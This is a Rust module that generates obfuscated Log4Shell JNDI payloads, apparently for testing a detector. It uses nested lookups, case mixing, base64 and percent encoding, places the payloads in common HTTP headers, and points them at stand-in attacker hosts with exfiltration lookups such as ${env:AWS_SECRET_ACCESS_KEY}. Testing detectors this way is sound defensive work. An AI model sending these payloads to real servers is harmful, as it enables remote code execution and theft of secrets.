//! Log4Shell: a `${jndi:<protocol>://host/path}` lookup in whatever a server logs — mostly
//! headers (User-Agent, X-Api-Version, Referer, X-Forwarded-For...). Each character of `jndi`
//! and of the protocol may be spelled by another Log4j lookup that evaluates to it
//! (`${lower:j}`, `${upper:n}`, `${::-d}`, `${env:NOPE:-i}`, `${date:'l'}`), nested, in any case;
//! the host and path may carry exfiltration lookups (`${env:AWS_SECRET_ACCESS_KEY}`); the whole
//! may sit inside a realistic header value and pass through percent layers.

use crate::mutate::{join, percent_specials, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct Jndi;

const PROTOCOLS: &[&str] = &["ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"];
const HEADERS: &[&str] = &[
    "user-agent",
    "x-api-version",
    "referer",
    "x-forwarded-for",
    "x-client-ip",
    "cookie",
    "authorization",
    "x-request-id",
    "accept-language",
    "x-wap-profile",
    "contact",
    "origin",
];
const EXFIL: &[&str] = &[
    "${env:USER}",
    "${sys:java.version}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${hostName}",
    "${java:os}",
    "${sys:user.name}",
    "${env:HOSTNAME}",
    "${main:0}",
];
const UNSET: &[&str] = &["NOPE", "BARFOO", "x", "a", "DOESNOTEXIST", "z9", "QQ", "foo:bar"];

impl Family for Jndi {
    fn name(&self) -> &'static str {
        "jndi"
    }

    fn detector(&self) -> &'static str {
        "deserialization"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let protocol = *rng.pick(PROTOCOLS);
        let host = match rng.below(4) {
            0 => {
                format!("{}.{}", rng.range(1000, 99999), rng.pick(&["oast.example", "interact.example", "dnslog.example", "burp.example"]))
            }
            1 => format!("198.51.100.{}:{}", rng.range(1, 254), rng.pick(&["1389", "1099", "389", "53", "80"])),
            2 => format!("{}.evil.example", rng.pick(EXFIL)),
            _ => format!("127.0.0.1#{}.example:1389", rng.range(1, 999)),
        };
        let path = match rng.below(3) {
            0 => rng.pick(&["a", "Exploit", "o=tomcat", "Basic/Command/Base64/aWQ=", "x"]).to_string(),
            1 => rng.pick(EXFIL).to_string(),
            _ => format!("{}", rng.range(1, 1 << 20)),
        };
        let share = *rng.pick(&[0.0, 0.0, 0.3, 0.6, 1.0]);
        if share > 0.0 {
            names.push(match share {
                s if s < 0.5 => "nest-some",
                s if s < 1.0 => "nest-most",
                _ => "nest-all",
            });
        }
        let mut kinds_used = Vec::new();
        let jndi = spell(rng, "jndi", share, &mut kinds_used);
        let colon = if share > 0.0 && rng.chance(0.3) { lookup(rng, ':', &mut kinds_used) } else { ":".to_string() };
        let proto = spell(rng, protocol, share, &mut kinds_used);
        let slashes = if share > 0.0 && rng.chance(0.2) {
            format!("{}{}", lookup(rng, '/', &mut kinds_used), lookup(rng, '/', &mut kinds_used))
        } else {
            "//".to_string()
        };
        names.extend(kinds_used.iter().copied().take(3));
        let mut payload = match rng.below(10) {
            // The lookup closed early by a stray brace after the protocol, as published bypass
            // lists write it (`${${lower:j}ndi:${lower:r}mi}://host/a}`).
            0 => {
                names.push("early-close");
                format!("${{{jndi}{colon}{proto}}}:{slashes}{host}/{path}}}")
            }
            // The lookup's name spelled in base64 (`${${base64:am5kaTpsZGFwOi8v...}}`).
            1 => {
                names.push("base64");
                format!("${{${{base64:{}}}}}", crate::mutate::base64(format!("jndi:{protocol}://{host}/{path}").as_bytes()))
            }
            // `$${`: Log4j's escape, written by attackers hoping a filter skips it.
            2 => {
                names.push("dollar-escape");
                format!("$${{{jndi}{colon}{proto}:{slashes}{host}/{path}}}")
            }
            _ => format!("${{{jndi}{colon}{proto}:{slashes}{host}/{path}}}"),
        };
        // Base64 text is case-sensitive: a case mix would change what it decodes to.
        if rng.chance(0.2) && !names.contains(&"base64") {
            payload = case_mix(rng, &payload);
            names.push("case");
        }
        let carrier = if rng.chance(0.75) { Carrier::Header(HEADERS[rng.below(HEADERS.len())]) } else { Carrier::Value };
        if let Carrier::Header(name) = carrier {
            if rng.chance(0.5) {
                names.push("in-context");
                payload = match name {
                    "user-agent" => format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) {payload}"),
                    "referer" | "origin" => format!("https://www.example.com/{payload}"),
                    "cookie" => format!("session=ab12; lang={payload}"),
                    "authorization" => format!("Bearer {payload}"),
                    "accept-language" => format!("en-US,{payload};q=0.9"),
                    _ => payload,
                };
            }
        }
        let (encoded, layer) = if rng.chance(0.15) {
            // Only the lookup's `${` encoded, as in `%24%7Bjndi:...`.
            (payload.replace("${", "%24%7B"), "dollar-brace-encoded")
        } else if matches!(carrier, Carrier::Header(_)) && rng.chance(0.6) {
            (payload, "")
        } else {
            transport_layer(rng, &payload)
        };
        names.push(layer);
        let encoded = if matches!(carrier, Carrier::Header(_)) && encoded.contains(' ') && rng.chance(0.2) {
            percent_specials(&encoded)
        } else {
            encoded
        };
        Variant { family: "jndi", mutation: join(&names), payload: encoded, carrier }
    }
}

/// `word` with a share of its characters written as lookups that evaluate to them.
fn spell(rng: &mut Rng, word: &str, share: f64, kinds: &mut Vec<&'static str>) -> String {
    let mut out = String::new();
    let chars: Vec<char> = word.chars().collect();
    let mut k = 0;
    while k < chars.len() {
        let c = chars[k];
        k += 1;
        if rng.chance(share) && rng.chance(0.25) && k < chars.len() {
            // A run of letters through one case lookup: `${lower:JN}`, `${upper:ndi}`.
            note(kinds, "case-chunk");
            let end = (k + rng.range(0, 3)).min(chars.len());
            let chunk: String = std::iter::once(c).chain(chars[k..end].iter().copied()).collect();
            k = end;
            if rng.chance(0.5) {
                out.push_str(&format!("${{lower:{}}}", chunk.to_ascii_uppercase()));
            } else {
                out.push_str(&format!("${{upper:{chunk}}}"));
            }
        } else if rng.chance(share) {
            out.push_str(&lookup(rng, c, kinds));
        } else if rng.chance(0.3) {
            out.push(c.to_ascii_uppercase());
        } else {
            out.push(c);
        }
    }
    out
}

/// A Log4j lookup that evaluates to `c`, possibly nested.
fn lookup(rng: &mut Rng, c: char, kinds: &mut Vec<&'static str>) -> String {
    let inner = match rng.below(8) {
        7 => {
            note(kinds, "case-default");
            // Nothing to convert: Log4j reads the `:-` default.
            format!("${{{}::-{c}}}", rng.pick(&["upper", "lower"]))
        }
        0 => {
            note(kinds, "lower");
            format!("${{lower:{}}}", c.to_ascii_uppercase())
        }
        1 => {
            note(kinds, "upper");
            // `ı` (dotless i) upper-cases to `I`.
            if c == 'i' && rng.chance(0.3) {
                "${upper:ı}".to_string()
            } else {
                format!("${{upper:{c}}}")
            }
        }
        2 => {
            note(kinds, "default");
            format!("${{::-{c}}}")
        }
        3 => {
            note(kinds, "env-default");
            format!("${{{}:{}:-{c}}}", rng.pick(&["env", "sys", "ctx", "main", "bundle", "k8s"]), rng.pick(UNSET))
        }
        4 => {
            note(kinds, "date");
            format!("${{date:'{c}'}}")
        }
        5 => {
            note(kinds, "empty-default");
            format!("${{:-{c}}}")
        }
        _ => {
            note(kinds, "nested");
            let inner = format!("${{lower:{c}}}");
            format!("${{{}:{}:-{inner}}}", rng.pick(&["env", "sys"]), rng.pick(UNSET))
        }
    };
    inner
}

fn note(kinds: &mut Vec<&'static str>, kind: &'static str) {
    if !kinds.contains(&kind) {
        kinds.push(kind);
    }
}

/// Random case on lookup prefixes and protocol letters (Log4j and JNDI ignore case there);
/// the defaults keep theirs since they are evaluated case-insensitively anyway.
fn case_mix(rng: &mut Rng, text: &str) -> String {
    text.chars().map(|c| if c.is_ascii_alphabetic() && rng.chance(0.4) { c.to_ascii_uppercase() } else { c }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn many_distinct_variants() {
        let variants = crate::sample(&Jndi, 1, 3000);
        let distinct: std::collections::HashSet<_> = variants.iter().map(|v| v.payload.as_str()).collect();
        assert!(distinct.len() > 2500, "{}", distinct.len());
        assert!(variants.iter().filter(|v| matches!(v.carrier, Carrier::Header(_))).count() > 1800);
    }
}
